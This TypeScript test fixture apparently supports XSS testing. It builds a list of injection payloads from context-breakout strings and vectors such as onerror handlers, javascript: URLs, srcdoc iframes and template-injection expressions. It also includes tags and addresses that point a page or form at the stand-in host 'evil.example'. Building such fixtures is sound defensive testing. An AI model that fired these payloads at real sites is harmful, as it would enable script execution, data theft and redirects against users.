/** A host that nobody may be asked for. */
export const foreignHost = 'evil.example';

/** What a script of a payload calls; pages under test count it. */
const call = 'kmx()';

/** Ways out of the place a text stands in. */
const ways = [
	'',
	'">',
	"'>",
	'--><!--x-->',
	'</title>',
	'</textarea>',
	'</script>',
	'</svg>',
	']]>'
];

/** Ways to run something or to ask another host. */
const acts = [
	`<script>${call}</script>`,
	`<img id=kmx src=x onerror=${call}>`,
	`<img id=kmx src=https://${foreignHost}/i.png>`,
	`<svg id=kmx onload=${call}>`,
	`<svg><script id=kmx>${call}</script></svg>`,
	`<svg><a id=kmx xlink:href="javascript:${call}"><text>x</text></a></svg>`,
	`<math><mi id=kmx xlink:href="javascript:${call}">x</mi></math>`,
	`<iframe id=kmx srcdoc="<script>parent.${call}</script>"></iframe>`,
	`<iframe id=kmx src="javascript:parent.${call}"></iframe>`,
	`<object id=kmx data="javascript:${call}"></object>`,
	`<details id=kmx open ontoggle=${call}>x</details>`,
	`<input id=kmx autofocus onfocus=${call}>`,
	`<video id=kmx src=x onerror=${call}></video>`,
	`<style id=kmx>@import 'https://${foreignHost}/s.css';</style>`,
	`<link id=kmx rel=stylesheet href=https://${foreignHost}/s.css>`,
	`<meta id=kmx http-equiv=refresh content="0;url=https://${foreignHost}/">`,
	`<base id=kmx href=https://${foreignHost}/>`,
	`<form id=kmx action=https://${foreignHost}/><button>x</button></form>`,
	`<a id=kmx href="javascript:${call}">x</a>`,
	`<template id=kmx><img src=x onerror=${call}></template>`,
	`<noscript><p title="</noscript><img id=kmx src=x onerror=${call}>">`
];

/** What some template, script or address would run without any tag. */
const bare = [
	`{{constructor.constructor('${call}')()}}`,
	`\${${call}}`,
	`{@html '<img src=x onerror=${call}>'}`,
	`';${call};//`,
	`";${call};//`,
	`\\';${call};//`,
	`\\u003cimg src=x onerror=${call}\\u003e`,
	`&lt;img src=x onerror=${call}&gt;`,
	`&#60;img src=x onerror=${call}&#62;`,
	`%3Cimg%20src%3Dx%20onerror%3D${call}%3E`,
	`" onmouseover="${call}" x="`,
	`' autofocus onfocus='${call}' x='`,
	`x\u2028${call}`,
	`__proto__`,
	`constructor`
];

/** Texts that would do harm where a page took them for markup or code: 9 ways out × 21 acts, and those without tags. */
export const payloads: readonly string[] = [
	...ways.flatMap((way) => acts.map((act) => way + act)),
	...bare
];

/** A text that runs where an address is followed; data refuse it, addresses of pages may carry it. */
export const scriptAddresses: readonly string[] = [
	`javascript:${call}`,
	`JaVaScRiPt:${call}`,
	`java\tscript:${call}`,
	`\u0001javascript:${call}`,
	`data:text/html,<script>${call}</script>`,
	`vbscript:${call}`,
	`//${foreignHost}/`,
	`https://${foreignHost}/`,
	`/\\${foreignHost}/`,
	`\\\\${foreignHost}\\`,
	`https:${foreignHost}`,
	`blob:https://${foreignHost}/x`
];
